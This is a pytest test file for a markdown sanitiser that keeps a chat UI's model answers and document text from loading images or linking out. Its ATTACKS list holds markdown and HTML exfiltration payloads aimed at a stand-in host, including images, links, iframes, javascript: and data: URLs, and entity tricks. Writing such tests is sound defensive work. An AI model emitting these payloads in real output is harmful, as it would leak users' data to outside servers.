"""ui/safe_markdown.py: whatever text comes in, what goes out to Streamlit can neither load nor link out.

The output is rendered here with markdown-it-py (CommonMark + GFM tables and strikethrough, raw HTML on, as
`unsafe_allow_html` would) and checked for images, links, HTML and the runs GFM's autolink-literal would turn
into links in the browser (its own regular expressions, from mdast-util-gfm-autolink-literal).
"""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from ui.safe_markdown import code, plain, safe

LEAK = "http://198.51.100.7/leak?d=secret"
RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
LITERAL = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).disable("text_join")
# What remark-gfm links in text (not in code): https?:// and www. runs, and e-mail addresses.
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
TAG = re.compile(r"<(/?)([a-zA-Z][a-zA-Z0-9]*)[^>]*>")
HARMLESS_TAGS = {"p", "em", "strong", "s", "code", "pre", "ul", "ol", "li", "blockquote", "h1", "h2", "h3", "h4",
                 "h5", "h6", "hr", "br", "table", "thead", "tbody", "tr", "th", "td"}

ATTACKS = [
    f"![x]({LEAK})",
    f"![x]( <{LEAK}> 'title')",
    f"[more]({LEAK})",
    f"[more][r]\n\n[r]: {LEAK}",
    f"![img][r]\n\n[r]: {LEAK}",
    "[r]\n\n[r]: http://198.51.100.7/shortcut",
    f"<{LEAK}>",
    "<mailto:someone@198.51.100.7>",
    f"bare {LEAK} and https://198.51.100.7/x, www.example.org/path and WWW.EXAMPLE.ORG",
    "write to someone@example.org or mailto:someone@example.org",
    f'<img src="{LEAK}">',
    f"<a href='{LEAK}'>click</a>",
    f"<iframe src={LEAK}></iframe>",
    "<style>@import url(http://198.51.100.7/x.css);</style>",
    f"<div>\n<img src={LEAK}>\n</div>",
    f"<svg><image href='{LEAK}'/></svg>",
    f"&lt;img src={LEAK}&gt; &#91;x&#93;&#40;{LEAK}&#41; https&#58;//198.51.100.7/entity",
    f"\\![x]({LEAK})",
    f"**bold ![x]({LEAK})** and _[y]({LEAK})_",
    f"| a | b |\n|---|---|\n| ![x]({LEAK}) | [y]({LEAK}) {LEAK} |",
    f"- item ![x]({LEAK})\n  - nested [y]({LEAK})\n> quote ![x]({LEAK})",
    f"1. one\n2. <img src={LEAK}>",
    f"[![inner]({LEAK})]({LEAK})",
    "[x](javascript:alert(1)) [y](data:text/html,hi) ![z](data:image/png;base64,AAAA)",
    f":red[text] :material/home: :blue-badge[x]{{src={LEAK}}}",
    f"$x$ $${LEAK}$$ \\href{{{LEAK}}}{{x}}",
    "https:[](x)//198.51.100.7/joined and www[](x).example.org",
    f"[^1]\n\n[^1]: {LEAK}",
    f"<{LEAK}",
    f"`code` ``` fence ``` ![x]({LEAK}) ```",
    f"~~~\n![x]({LEAK})\n~~~\n![y]({LEAK})",
    f"    indented ![x]({LEAK})\n\nafter ![y]({LEAK})",
]


def outside_code(rendered: str) -> str:
    """The rendered HTML's text outside <code> elements (code is never linked or rendered)."""
    return re.sub(r"<code[^>]*>.*?</code>", " ", rendered, flags=re.DOTALL)


def assert_inert(markdown: str, *, own_directives: bool = False) -> None:
    """No image, no link but to an in-page anchor, no HTML, nothing GFM would autolink; and unless the page
    added directives of its own (`own_directives`), no unescaped `:` or `$`."""
    rendered = RENDERER.render(markdown)
    for _closing, tag in TAG.findall(rendered):
        assert tag.lower() in HARMLESS_TAGS | {"a"}, f"<{tag}> in {rendered!r}"
    for href in re.findall(r"<a [^>]*href=\"([^\"]*)\"", rendered):
        assert href.startswith("#"), rendered
    text = html.unescape(TAG.sub(" ", outside_code(rendered)))
    assert not GFM_URL.search(text), f"GFM would link {GFM_URL.search(text)} in {text!r}"
    assert not GFM_EMAIL.search(text), f"GFM would link {GFM_EMAIL.search(text)} in {text!r}"
    # Streamlit's directives (`:red[…]`, `:material/…:`) and math need an unescaped `:` or `$`: with escapes
    # kept apart (no text_join), every `:` or `$` left is in an escape or in code.
    if own_directives:
        return
    for token in LITERAL.parse(markdown):
        for child in token.children or []:
            assert child.type != "text" or not {":", "$"} & set(child.content), (child.content, markdown)


@pytest.mark.parametrize("attack", ATTACKS)
def test_model_markdown_cannot_load_or_link_out(attack: str) -> None:
    assert_inert(safe(attack))
    assert_inert(safe(attack, {1: "#turn-0-source-1"}))


@pytest.mark.parametrize("attack", ATTACKS)
def test_document_text_cannot_load_or_link_out(attack: str) -> None:
    assert_inert(plain(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_answer_cut_anywhere_while_streaming_is_inert(attack: str) -> None:
    for end in range(len(attack) + 1):
        assert_inert(safe(attack[:end]))


def test_formatting_survives() -> None:
    source = ("# Result\n\nThe pump is **fast** and *quiet*, ~~loud~~, see `pump --help`.\n\n"
              "- one\n- two\n  1. nested\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> quoted\n\n"
              "```python\nx = 1 < 2\n```\n\n---")
    rendered = RENDERER.render(safe(source))
    for fragment in ("<h1>Result</h1>", "<strong>fast</strong>", "<em>quiet</em>", "<s>loud</s>",
                     "<code>pump --help</code>", "<li>one</li>", "<ol>", "<td style=\"text-align:right\">2</td>",
                     "<blockquote>", '<code class="language-python">x = 1 &lt; 2\n</code>', "<hr />"):
        assert fragment in rendered, (fragment, rendered)


def test_citations_link_to_their_in_page_anchors_only() -> None:
    text = "Revenue was $5 [1][3], up from $4 【2†L1-L2】 [1, 2]."
    assert safe(text, {1: "#t-source-1", 2: "#t-source-2"}) == (
        r"Revenue was \$5 [\[1\]](#t-source-1)\[3\], up from \$4 [\[2\]](#t-source-2) "
        r"[\[1\]](#t-source-1)[\[2\]](#t-source-2)."
    )
    # Only in-page anchors are ever linked, whatever the caller passes.
    assert "(http" not in safe("[1]", {1: "http://198.51.100.7/"})
    assert safe("[1]", {1: "#a) ![x](http://e/"}) == r"\[1\]"
    rendered = RENDERER.render(safe("**[1]** and [1]", {1: "#k-source-1"}))
    assert rendered.count('<a href="#k-source-1">[1]</a>') == 2


def test_links_keep_their_text_and_show_the_address_inertly() -> None:
    assert safe(f"[more]({LEAK})") == f"more (`{LEAK}`)"
    assert safe(f"See {LEAK}.") == f"See `{LEAK}`."
    assert safe(f"![chart]({LEAK})") == r"\[image\: chart\]"
    assert safe("<b>x</b>") == r"\<b\>x\</b\>"


def test_plain_shows_text_as_written() -> None:
    text = "*not emphasis* _x_ [1] <b> # | ~ $5 & :red[x] \\ `tick`"
    rendered = RENDERER.render(plain(text))
    assert html.unescape(TAG.sub("", rendered)).strip() == text
    assert plain("1. first\n- second\n+ third\n===") == "1\\. first\n\\- second\n\\+ third\n\\==="


def test_code_spans_hold_any_backticks() -> None:
    for text in ["a`b", "``", "`start", "end`", " both ", "a|b", "x```y`"]:
        rendered = RENDERER.render(code(text))
        assert rendered.startswith("<p><code>") and rendered.endswith("</code></p>\n"), (text, rendered)
        assert html.unescape(rendered[len("<p><code>"):-len("</code></p>\n")]) == text
    assert RENDERER.render(code("")).startswith("<p><code>")
    table = f"| a |\n|---|\n| {code('x|y', in_table=True)} |"
    assert "<code>x|y</code>" in RENDERER.render(table)
